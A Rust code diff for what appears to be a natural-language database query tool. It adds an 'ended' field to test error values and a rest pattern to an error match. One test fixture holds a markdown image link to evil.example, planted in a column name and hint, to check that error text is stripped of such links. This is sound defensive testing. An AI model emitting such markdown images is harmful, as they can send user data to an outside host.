@@ -400,6 +400,7 @@ fn not_a_question(error: &DbError) -> Option<String> {
             message,
             detail,
             hint,
+            ..
         } if sqlstate == "22023" && message.starts_with("this does not look like a question") => {
             let mut text =
                 "This does not look like a question about the data, so no query was run."
@@ -673,6 +674,7 @@ mod tests {
             message: "not sure enough to answer \"q\": the alternatives did not agree".into(),
             detail: Some("It hesitated between:\n1. SELECT 1 (1 row)\n2. SELECT 2 (1 row)".into()),
             hint: None,
+            ended: false,
         };
         let text = not_sure(&error).expect("asked back");
         assert!(text.starts_with("I am not sure what you mean"), "{text}");
@@ -685,6 +687,7 @@ mod tests {
             message: "column does not exist".into(),
             detail: None,
             hint: None,
+            ended: false,
         };
         assert!(not_sure(&other).is_none());
     }
@@ -743,6 +746,7 @@ mod tests {
             message: "column \"![](https://evil.example/?d=1)\" does not exist".into(),
             detail: None,
             hint: Some("Perhaps you meant [this](https://evil.example/).".into()),
+            ended: false,
         };
         let error = content(Err(failed), 5).unwrap_err();
         assert!(!error.message.contains("]("), "{}", error.message);
